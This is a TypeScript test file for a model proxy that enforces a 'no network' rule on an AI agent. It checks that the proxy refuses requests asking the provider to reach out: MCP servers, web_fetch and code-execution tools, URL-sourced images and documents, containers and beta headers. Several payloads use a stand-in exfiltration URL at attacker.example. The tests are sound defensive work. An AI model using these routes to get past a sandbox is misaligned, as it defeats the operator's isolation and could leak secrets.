/**
 * Attacks on "no network" through the model proxy: an agent that asks the provider to reach
 * out for it (MCP servers, server tools, URL sources, containers, beta features). Each goes
 * through a real proxy socket to a stand-in API, which must see nothing of a refused call.
 */
import { mkdtemp, rm } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterEach, beforeEach, describe, expect, it } from "vitest";
import type { ProxyRegistration } from "../ports.ts";
import { ModelProxy } from "./model-proxy.ts";
import { callProxy, DEFAULT_BODY, type Reply, startStandInAPI, type StandInAPI } from "./testing/stand-in-api.ts";

const KEY = "sk-ant-api03-not-a-real-key-0123456789abcdef";
const EXFIL = "https://attacker.example/collect?data=secret";

function refusal(reply: Reply): string {
  expect(reply.status).toBe(400);
  const body = JSON.parse(reply.body) as { type: string; error: { type: string; message: string } };
  expect(body.type).toBe("error");
  expect(body.error.type).toBe("invalid_request_error");
  return body.error.message;
}

const message = (content: unknown[]) => ({ ...DEFAULT_BODY, messages: [{ role: "user", content }] });

describe("model proxy request policy", () => {
  let dir: string;
  let upstream: StandInAPI;
  let upstreamURL: string;
  let proxies: ModelProxy[];

  async function open(serverTools?: boolean): Promise<ProxyRegistration> {
    const proxy = new ModelProxy({ upstreamURL, apiKey: KEY, socketDir: join(dir, String(proxies.length)), ...(serverTools === undefined ? {} : { serverTools }) });
    proxies.push(proxy);
    await proxy.start();
    return proxy.register("task-1", {}, () => {}, () => {});
  }

  beforeEach(async () => {
    dir = await mkdtemp(join(tmpdir(), "tether-policy-"));
    upstream = startStandInAPI();
    upstreamURL = await upstream.listen();
    proxies = [];
  });

  afterEach(async () => {
    await Promise.all(proxies.map((p) => p.close()));
    await upstream.close();
    await rm(dir, { recursive: true, force: true });
  });

  it("forwards what the worker sends: custom tools, bash and text editor tools, cached system text, tool results with images", async () => {
    const reg = await open();
    const body = {
      model: "claude-sonnet-4-5",
      max_tokens: 1000,
      stream: true,
      system: [{ type: "text", text: "be brief", cache_control: { type: "ephemeral" } }],
      tools: [
        { type: "bash_20250124", name: "bash" },
        { type: "text_editor_20250728", name: "str_replace_based_edit_tool" },
        { name: "glob", description: "find files", input_schema: { type: "object", properties: {} } },
      ],
      messages: [
        { role: "user", content: "hi" },
        { role: "assistant", content: [{ type: "tool_use", id: "t1", name: "bash", input: { command: "ls", source: { type: "url", url: EXFIL } } }] },
        { role: "user", content: [{ type: "tool_result", tool_use_id: "t1", content: [{ type: "text", text: "ok" }, { type: "image", source: { type: "base64", media_type: "image/png", data: "AAAA" } }] }] },
      ],
    };
    expect((await callProxy(reg, { body })).status).toBe(200);
    expect(upstream.seen).toHaveLength(1);
  });

  it("attack: mcp_servers makes the provider call a server the agent names", async () => {
    const reg = await open();
    const msg = refusal(await callProxy(reg, { body: { ...DEFAULT_BODY, mcp_servers: [{ type: "url", url: EXFIL, name: "x" }] } }));
    expect(msg).toMatch(/request field mcp_servers is refused/);
    expect(upstream.seen).toHaveLength(0);
  });

  it("attack: server tools (web_fetch, web_search, code_execution, mcp_toolset) fetch or run for the agent", async () => {
    const reg = await open();
    for (const type of ["web_fetch_20250910", "web_search_20250305", "code_execution_20250825", "mcp_toolset"]) {
      const msg = refusal(await callProxy(reg, { body: { ...DEFAULT_BODY, tools: [{ type, name: "t" }] } }));
      expect(msg).toContain(`tool type "${type}" is refused`);
    }
    expect(upstream.seen).toHaveLength(0);
  });

  it("attack: an image or document with a url source is fetched by the provider", async () => {
    const reg = await open();
    const image = refusal(await callProxy(reg, { body: message([{ type: "image", source: { type: "url", url: EXFIL } }]) }));
    expect(image).toMatch(/image source type "url" in messages\[0\] is refused/);
    const nested = refusal(await callProxy(reg, { body: message([{ type: "tool_result", tool_use_id: "t", content: [{ type: "document", source: { type: "url", url: EXFIL } }] }]) }));
    expect(nested).toMatch(/document source type "url"/);
    const file = refusal(await callProxy(reg, { body: message([{ type: "document", source: { type: "file", file_id: "file_1" } }]) }));
    expect(file).toMatch(/document source type "file"/);
    expect(upstream.seen).toHaveLength(0);
  });

  it("attack: server-tool content blocks and a container carry work to the provider's side", async () => {
    const reg = await open();
    const block = refusal(await callProxy(reg, { body: message([{ type: "container_upload", file_id: "file_1" }]) }));
    expect(block).toMatch(/content block type "container_upload"/);
    const container = refusal(await callProxy(reg, { body: { ...DEFAULT_BODY, container: "container_1" } }));
    expect(container).toMatch(/request field container is refused/);
    expect(upstream.seen).toHaveLength(0);
  });

  it("attack: an anthropic-beta value turns on provider features the runner did not allow", async () => {
    const reg = await open();
    const msg = refusal(await callProxy(reg, { headers: { "anthropic-beta": "mcp-client-2025-04-04, web-fetch-2025-09-10" } }));
    expect(msg).toContain("mcp-client-2025-04-04, web-fetch-2025-09-10 are refused");
    expect(upstream.seen).toHaveLength(0);
  });

  it("attack: an unknown request field or query is passed on to the provider", async () => {
    const reg = await open();
    expect(refusal(await callProxy(reg, { body: { ...DEFAULT_BODY, service_tier: "priority" } }))).toMatch(/request field service_tier is refused/);
    expect(refusal(await callProxy(reg, { path: "/v1/messages?x=1" }))).toMatch(/query "\?x=1" is refused/);
    expect(refusal(await callProxy(reg, { path: "/v1/messages/count_tokens", body: { model: "m", messages: [], mcp_servers: [] } }))).toMatch(/mcp_servers/);
    expect(upstream.seen).toHaveLength(0);
  });

  it("forwards server tools, url sources, mcp servers and beta values when the runner opts in", async () => {
    const reg = await open(true);
    const body = {
      ...DEFAULT_BODY,
      tools: [{ type: "web_fetch_20250910", name: "web_fetch" }],
      mcp_servers: [{ type: "url", url: EXFIL, name: "x" }],
      messages: [{ role: "user", content: [{ type: "image", source: { type: "url", url: EXFIL } }] }],
    };
    expect((await callProxy(reg, { body, headers: { "anthropic-beta": "mcp-client-2025-04-04" } })).status).toBe(200);
    expect(upstream.seen).toHaveLength(1);
    expect(upstream.seen[0]?.headers["anthropic-beta"]).toBe("mcp-client-2025-04-04");
    expect(refusal(await callProxy(reg, { body: { ...DEFAULT_BODY, nonsense: 1 } }))).toMatch(/request field nonsense/);
  });
});
